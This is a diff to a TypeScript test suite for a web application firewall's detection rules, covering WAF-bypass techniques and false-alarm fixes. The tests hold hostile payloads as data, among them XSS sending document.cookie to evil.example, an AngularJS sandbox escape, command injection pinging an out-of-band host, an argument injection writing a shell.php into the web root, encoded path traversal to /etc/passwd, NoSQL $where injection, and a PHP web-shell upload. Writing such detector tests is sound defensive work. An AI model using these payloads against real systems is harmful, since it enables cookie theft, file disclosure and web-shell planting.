@@ -37,7 +37,8 @@ describe('a JWT header is read before its signature is checked', () => {
 describe('xss: markup after a quote and ">" the page opened', () => {
   it('dangling markup and injected elements after an attribute breakout', () => {
     expect(q(`"><img src='//attacker.example/?`)).toContain('xss.attribute-breakout');
-    expect(q(`x' /><form action=https://evil.example>`)).toContain('xss.attribute-breakout');
+    expect(pl2.inspect(queryRequest(`x' /><form action=https://evil.example>`)).blocked).toBe(true);
+    expect(q(`x' /><b>hello</b>`)).toContain('xss.attribute-breakout');
   });
 
   it("a value's own HTML closes its own attributes", () => {
@@ -155,5 +156,64 @@ describe('false alarms fixed', () => {
     expect(passes(jsonRequest('mountpoint', '/var/lib/postgresql'))).toBe(true);
     expect(pl2.inspect(queryRequest('/etc/passwd', 'file')).blocked).toBe(true);
     expect(pl2.inspect(queryRequest('../../../../var/log/apache2/access.log', 'file')).blocked).toBe(true);
+  });
+});
+
+describe('round 4 (WAF-bypass techniques; business APIs)', () => {
+  it('framework event bindings are event handlers', () => {
+    expect(q(`<input autofocus ng-focus=$event.composedPath()|orderBy:'[].constructor.from([1],alert)'>`)).toContain('xss.event-handler');
+    expect(q(`<div x-init="fetch('//evil.example/'+document.cookie)">`)).toContain('xss.event-handler');
+    expect(passes(jsonRequest('html', '<div ng-app class="ng-scope">Hello</div>'))).toBe(true);
+  });
+
+  it('an injected form: fields without an action (DOM clobbering), or an action on another site', () => {
+    expect(ruleIds(pl2, jsonRequest('body', '<form id=appConfig><input name=scriptSrc value=//xss.example/x.js></form>'))).toContain('xss.active-element');
+    expect(passes(jsonRequest('code', '<form action="/subscribe" method="post"><input type="email" name="email"><button>Go</button></form>'))).toBe(true);
+  });
+
+  it('a network tool after a lone "&" with a host, and a URL followed by a tool option', () => {
+    expect(q('127.0.0.1&nslookup cmdi.x7f3.oast.example&', 'host')).toContain('cmdi.chained-command');
+    expect(ruleIds(pl2, jsonRequest('url', 'http://attacker.example/shell.php -o /var/www/html/shell.php'))).toContain('cmdi.argument-injection');
+    expect(passes(jsonRequest('note', 'See https://example.com/docs -Tom'))).toBe(true);
+  });
+
+  it('an encoded dot segment in the request path', () => {
+    const get = (path: string): InspectRequest => ({ method: 'GET', path, query: '', headers: { host: 'h' } });
+    expect(ruleIds(pl2, get('/api/v1/%2e%2e/actuator/heapdump'))).toContain('traversal.encoded-dot-segment');
+    expect(ruleIds(pl2, get('/cgi-bin/.%2e/.%2e/etc/passwd'))).toContain('traversal.encoded-dot-segment');
+    expect(passes(get('/files/report%2Eq3.pdf'))).toBe(true);
+    expect(passes(get('/users/john%2Esmith/posts'))).toBe(true);
+  });
+
+  it('a negotiation header outside its grammar is read', () => {
+    const lang = (v: string): InspectRequest => ({ method: 'GET', path: '/i18n/messages', query: '', headers: { host: 'h', 'accept-language': v } });
+    expect(pl2.inspect(lang('../../../../etc/passwd%00')).blocked).toBe(true);
+    expect(passes(lang('en-US,en;q=0.9,de;q=0.8'))).toBe(true);
+    expect(passes({ method: 'GET', path: '/', query: '', headers: { host: 'h', 'sec-ch-ua': '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"', accept: 'text/html,application/xhtml+xml,*/*;q=0.8' } })).toBe(true);
+  });
+
+  it('false alarms fixed', () => {
+    // A MongoDB query document under a filter parameter: fields with read operators. An operator document standing
+    // for a value, or a condition on a secret field, still blocks.
+    expect(passes(queryRequest('{"status":{"$in":["active","trial"]},"plan":{"$ne":"free"}}', 'filter'))).toBe(true);
+    expect(pl2.inspect(queryRequest('{"$ne": null}', 'filter')).blocked).toBe(true);
+    expect(pl2.inspect(queryRequest('{"password":{"$regex":"^a"}}', 'filter')).blocked).toBe(true);
+    expect(pl2.inspect(queryRequest('{"status":{"$where":"sleep(5000)"}}', 'filter')).blocked).toBe(true);
+    // A search filter grouping its own conditions; a WHERE in a sub-query still counts.
+    expect(passes(jsonRequest('filter', "price > 20 AND price < 60 AND (brand = 'Anker' OR brand = 'UGREEN')"))).toBe(true);
+    // `SELECT *` without FROM in a subject line; Northwind as a company.
+    expect(passes(jsonRequest('subject', 'Re: SELECT * in production?'))).toBe(true);
+    expect(passes(jsonRequest('resume', 'Northwind Traders — Software Engineer (2019-2022)'))).toBe(true);
+    expect(q('SELECT * FROM Northwind.dbo.Customers')).toContain('sqli.catalog');
+    // `<script>` named in a sentence; a script with code after it, or closed, is still one.
+    expect(passes(jsonRequest('text', 'Finally got my <script> tag to load after 3 hours, it was a typo in the path'))).toBe(true);
+    expect(pl2.inspect(jsonRequest('text', 'hi <script>alert(document.domain)')).blocked).toBe(true);
+    // A gamer tag as a path segment; a loopback image in a post's HTML (the reader's browser loads it).
+    expect(passes({ method: 'GET', path: '/api/v1/players/~%2ADarkAngel%2A~/stats', query: '', headers: { host: 'h' } })).toBe(true);
+    expect(passes(jsonRequest('content', '<p>Photo: <img src="https://localhost/wp-content/uploads/a.jpg" alt="market"></p>'))).toBe(true);
+    // Python and shell files are not run by web servers; PHP, JSP and ASP files are.
+    const upload = (name: string): InspectRequest => ({ method: 'POST', path: '/upload', query: '', headers: { host: 'h', 'content-type': 'multipart/form-data; boundary=b' }, body: `--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n` });
+    expect(passes(upload('main.py'))).toBe(true);
+    expect(pl2.inspect(upload('shell.php')).blocked).toBe(true);
   });
 });
